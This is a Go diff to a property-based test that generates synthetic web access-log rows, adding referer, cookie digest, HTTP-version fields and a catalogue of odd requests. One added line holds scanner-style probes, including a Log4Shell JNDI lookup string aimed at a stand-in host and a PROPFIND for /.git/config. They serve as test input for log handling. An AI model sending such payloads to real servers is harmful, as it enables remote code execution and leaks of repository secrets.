@@ -41,6 +41,8 @@ func hostileCatalog() *event.Catalog {
 		c.Places = append(c.Places, event.PlaceText{Country: "FR", City: text, Lat: "0.0000", Lon: "-0.5000"})
 		c.UserAgents = append(c.UserAgents, text)
 	}
+	c.Requests = []event.RequestText{{}, {Method: "HEAD", Path: "/"}, {Method: "PROPFIND", Path: "/.git/config"}, {Method: "CONNECT", Path: "smtp.example:25"},
+		{Method: "GET", Path: "/?x=${jndi:ldap://probe.example/a}"}, {Path: `\x16\x03\x01\x00{\x01,'&<w`}, {Path: "SSH-2.0-Go"}, {}}
 	c.Releases = []event.AssetNames{{App: "/static/app-1.js", Vendor: "/static/vendor-1.js", Style: "/static/style-1.css"}, {App: "/static/app-2.js", Vendor: "/static/vendor-2.js", Style: "/static/style-2.css"}}
 	return c
 }
@@ -131,9 +133,27 @@ func accessRow(cat *event.Catalog, a *event.Access) row {
 	if a.Account != event.NoAccount {
 		r.put("account", cat.Accounts[a.Account].ID)
 	}
+	r.put("user_agent", cat.UserAgents[a.UserAgent])
+	r.put("http_version", map[bool]string{false: "1.1", true: "2"}[a.HTTP2])
+	r.put("session_digest", hex16(a.Cookie))
+	switch a.Referer {
+	case event.NoPath:
+	case event.PathSignInPush:
+		r.put("referer", "https://identite.example/")
+	default:
+		r.put("referer", "https://portal.example"+cat.Path(a.Referer, a.Release))
+	}
+	if x := cat.Requests[a.Strange]; a.Strange != 0 {
+		r.put("method", x.Method)
+		r.put("path", x.Path)
+		if x.Method == "" { // no HTTP, and no header
+			delete(r, "http_version")
+			delete(r, "referer")
+		}
+		return r
+	}
 	r.put("method", a.Method.String())
 	r.put("path", pathOf(cat.Path(a.Path, a.Release), a.Path, a.Asked, nir.NIR(a.Asked), a.KeyOff))
-	r.put("user_agent", cat.UserAgents[a.UserAgent])
 	return r
 }
 
@@ -177,8 +197,14 @@ func drawAccess(t *rapid.T, cat *event.Catalog) event.Access {
 	if a.Path.ByNumber() {
 		a.Asked = uint64(ev.NIR)
 	}
+	a.HTTP2, a.Cookie = rapid.Bool().Draw(t, "http2"), rapid.OneOf(rapid.Just(uint64(0)), rapid.Uint64()).Draw(t, "cookie")
+	a.Referer = event.Path(rapid.IntRange(0, len(event.Paths())-1).Draw(t, "referer"))
 	if a.Path >= event.PathAssetApp && a.Path <= event.PathAssetStyle {
 		a.Release = uint8(rapid.IntRange(0, len(cat.Releases)-1).Draw(t, "release"))
+	}
+	if rapid.IntRange(0, 3).Draw(t, "stranger") == 0 {
+		a.Strange, a.Method, a.Path, a.Asked, a.Release = uint16(rapid.IntRange(1, len(cat.Requests)-1).Draw(t, "request")), 0, 0, 0, 0
+		a.HTTP2 = a.HTTP2 && cat.Requests[a.Strange].Method != ""
 	}
 	return a
 }
